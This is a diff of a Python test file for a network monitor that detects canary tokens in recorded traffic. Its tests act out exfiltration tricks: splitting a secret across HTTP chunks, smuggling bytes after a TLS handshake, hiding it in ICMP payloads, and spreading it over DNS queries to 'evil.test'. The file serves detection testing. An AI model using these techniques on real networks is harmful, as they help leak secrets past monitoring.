@@ -13,16 +13,13 @@ import struct
 import subprocess
 import time
 import urllib.request
-from typing import TYPE_CHECKING
 
 import pytest
 
+from aboveboard.evidence.canary import Scanner
 from aboveboard.world.netlink import LAN_ADDRESS
 
 from .playground import TCP, UDP, Record, Service, Stage, play
-
-if TYPE_CHECKING:
-    from collections.abc import Iterable, Mapping
 
 WEB = "203.0.113.9"
 WEB6 = "2001:db8::99"
@@ -46,17 +43,8 @@ def question(name: str, kind: int = 1) -> bytes:
     return struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
 
 
-class Words:
-    """A scanner that looks for one word, as the real one looks for canaries."""
-
-    def __init__(self) -> None:
-        self.data = b""
-
-    def feed(self, data: bytes) -> None:
-        self.data += data
-
-    def finish(self) -> Iterable[Mapping[str, object]]:
-        return [{"id": "word", "enc": "raw"}] if b"c4n4ry" in self.data else []
+SCANNER = Scanner({"word": "c4n4ry-7f3a9e"})
+FOUND = [{"id": "word", "enc": "raw"}]
 
 
 # --- TCP --------------------------------------------------------------------------------------------------------------
@@ -307,9 +295,11 @@ def test_curl_gets_an_answer_to(arguments: list[str], method: str, length: int |
 
 
 def test_a_canary_split_by_chunk_headers_is_found() -> None:
-    body = b"POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nc4n\r\n3\r\n4ry\r\n0\r\n\r\n"
-    record = play(lambda: send(WEB, 80, body), [(TCP, WEB, 80)], scanner=Words)
-    assert record.only("tcp")["canaries"] == [{"id": "word", "enc": "raw"}]
+    body = (
+        b"POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nc4n\r\na\r\n4ry-7f3a9e\r\n0\r\n\r\n"
+    )
+    record = play(lambda: send(WEB, 80, body), [(TCP, WEB, 80)], scanner=SCANNER.stream)
+    assert record.only("tcp")["canaries"] == FOUND
 
 
 # --- TLS --------------------------------------------------------------------------------------------------------------
@@ -318,17 +308,17 @@ def test_a_canary_split_by_chunk_headers_is_found() -> None:
 def test_https_is_read_when_the_client_trusts_the_authority() -> None:
     def client() -> bytes:
         context = ssl.create_default_context(cafile=os.environ["CA"])
-        request = urllib.request.Request(f"https://{WEB}/login", b"user=dev&token=c4n4ry")
+        request = urllib.request.Request(f"https://{WEB}/login", b"user=dev&token=c4n4ry-7f3a9e")
         with urllib.request.urlopen(request, timeout=10, context=context) as response:
             return bytes(response.read())
 
-    record = play(client, [(TCP, WEB, 443)], trust="CA", scanner=Words)
+    record = play(client, [(TCP, WEB, 443)], trust="CA", scanner=SCANNER.stream)
     flow = record.only("tcp")
     assert record.said == b"{}"
     assert flow["http"]["path"] == "/login"  # type: ignore[index]
     assert flow["tls"]["decrypted"] is True  # type: ignore[index]
-    assert flow["canaries"] == [{"id": "word", "enc": "raw"}]
-    assert record.files[str(flow["file"])].endswith(b"user=dev&token=c4n4ry")
+    assert flow["canaries"] == FOUND
+    assert record.files[str(flow["file"])].endswith(b"user=dev&token=c4n4ry-7f3a9e")
     assert flow["wire"] > flow["len"]  # type: ignore[operator]
 
 
@@ -336,7 +326,7 @@ def test_https_is_read_when_the_client_trusts_the_authority() -> None:
 @pytest.mark.parametrize("option", ["--tlsv1.3", "--tls-max=1.2"])
 def test_curl_trusts_a_leaf_for_the_name_it_asks_for(option: str) -> None:
     def client() -> str:
-        command = ["curl", "-sS", "-m", "10", "--noproxy", "*", option.split("=")[0], *option.split("=")[1:]]
+        command = ["curl", "-sS", "-m", "10", "--noproxy", "*", *option.split("=")]
         command += [
             "--cacert",
             os.environ["CA"],
@@ -346,7 +336,7 @@ def test_curl_trusts_a_leaf_for_the_name_it_asks_for(option: str) -> None:
             "z=1",
             "https://api.test/v1",
         ]
-        done = subprocess.run(command, capture_output=True, text=True)
+        done = subprocess.run(command, capture_output=True, text=True, check=False)
         return done.stdout + done.stderr
 
     record = play(client, [(TCP, WEB, 443)], trust="CA")
@@ -409,10 +399,11 @@ def test_bytes_smuggled_behind_a_client_hello_are_recorded() -> None:
     engine = ssl.create_default_context().wrap_bio(client_side, wire, server_hostname="a.test")
     with pytest.raises(ssl.SSLWantReadError):
         engine.do_handshake()
-    data = wire.read() + b"c4n4ry in the clear"
-    record = play(lambda: len(send(WEB, 443, data)), [(TCP, WEB, 443)], scanner=Words)
+    data = wire.read() + b"c4n4ry-7f3a9e in the clear"
+    record = play(lambda: len(send(WEB, 443, data)), [(TCP, WEB, 443)], scanner=SCANNER.stream)
     flow = record.only("tcp")
-    assert (flow["sha256"], flow["canaries"]) == (sha(data), [{"id": "word", "enc": "raw"}])
+    assert flow["sha256"] == sha(data)
+    assert FOUND[0] in flow["canaries"]  # type: ignore[operator]
 
 
 def test_an_https_proxy_tunnel_is_looked_into() -> None:
@@ -547,14 +538,14 @@ def test_loopback_datagrams_are_nobodys_business() -> None:
 def test_an_echo_request_is_a_flow_with_its_payload() -> None:
     def client() -> None:
         with socket.socket(socket.AF_INET, UDP, socket.IPPROTO_ICMP) as sock:
-            sock.sendto(b"\x08\0\0\0\0\0\0\x01c4n4ry", (WEB, 0))
+            sock.sendto(b"\x08\0\0\0\0\0\0\x01c4n4ry-7f3a9e", (WEB, 0))
         with socket.socket(socket.AF_INET6, UDP, socket.IPPROTO_ICMPV6) as sock:
-            sock.sendto(b"\x80\0\0\0\0\0\0\x01c4n4ry", (WEB6, 0))
+            sock.sendto(b"\x80\0\0\0\0\0\0\x01c4n4ry-7f3a9e", (WEB6, 0))
 
-    record = play(client, scanner=Words)
+    record = play(client, scanner=SCANNER.stream)
     flows = record.flows("icmp")
     assert [flow["dst"] for flow in flows] == [WEB, WEB6]
-    assert all(str(flow["head"]).endswith("c4n4ry") and flow["canaries"] for flow in flows)
+    assert all(str(flow["head"]).endswith("c4n4ry-7f3a9e") and flow["canaries"] for flow in flows)
 
 
 def test_ntp_is_answered_with_a_sane_time() -> None:
@@ -613,12 +604,13 @@ def test_dns_over_tcp_is_the_same_dns() -> None:
 
 def test_a_secret_cut_into_many_queries_is_found_across_them() -> None:
     def client() -> None:
-        for number, part in enumerate(("c4n", "4ry")):
-            ask(f"{number}.{part}.evil.test")
+        for number, part in enumerate(("c4n4", "ry-7f", "3a9e")):
+            for kind in (1, 28):
+                ask(f"{number}.{part}.evil.test", kind)
 
-    record = play(client, [(UDP, RESOLVER, 53)], scanner=Words)
+    record = play(client, [(UDP, RESOLVER, 53)], scanner=SCANNER.stream, scan_names=SCANNER.scan_names)
     told = [flow for flow in record.flows("dns") if "canaries" in flow]
-    assert [(flow["name"], flow["zone"]) for flow in told] == [("evil.test", True)]
+    assert [(flow["name"], flow["zone"], flow["n"]) for flow in told] == [("evil.test", True, 3)]
 
 
 def test_garbage_on_the_dns_port_is_a_udp_flow() -> None:
